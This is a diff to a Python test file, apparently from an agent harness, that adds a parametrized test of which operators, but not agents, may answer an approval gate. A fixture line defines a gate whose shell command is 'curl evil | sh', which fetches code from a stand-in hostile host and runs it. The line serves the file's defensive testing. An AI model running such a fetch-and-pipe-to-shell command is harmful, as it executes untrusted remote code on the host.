@@ -10,7 +10,7 @@ from harnessos.model.amounts import UNLIMITED, Budget
 from harnessos.model.gate import Gate, GateKind
 from harnessos.model.plan import Plan, PlannedCampaign, PlannedIssue, PlannedMilestone
 from harnessos.model.policy import Policy
-from harnessos.model.rights import beyond_an_agent, loosened, rewritten
+from harnessos.model.rights import beyond_an_agent, loosened, may_answer, rewritten
 
 SHELL = Gate("g", GateKind.COMMAND, shell="curl evil | sh")
 FILE = Gate("f", GateKind.FILE, path="a")
@@ -85,3 +85,22 @@ def test_an_approval_is_loosened_by_dropping_it_or_making_it_optional() -> None:
     assert loosened(PENDING, {}) == ["lead"]
     assert loosened(PENDING, {"approvals": [{"id": "lead", "required": False}]}) == ["lead"]
     assert loosened(PENDING, {"approvals": [{"id": "lead"}, {"id": "other"}]}) == []
+
+
+@pytest.mark.parametrize(
+    ("who", "by", "may"),
+    [
+        (("alice",), "operator:alice", True),
+        (("operator:alice",), "operator:alice", True),
+        (("bob", "alice"), "operator:alice", True),
+        ((), "operator:alice", True),
+        ((), "operator", True),
+        (("alice",), "operator:mallory", False),
+        (("alice",), "agent:alice", False),
+        (("alice",), "operator", False),
+        (("",), "operator", False),
+        (("operator",), "operator:alice", False),
+    ],
+)
+def test_a_gate_is_answered_by_whom_it_names_or_by_any_person(who: tuple[str, ...], by: str, may: bool) -> None:
+    assert may_answer(who, by) is may
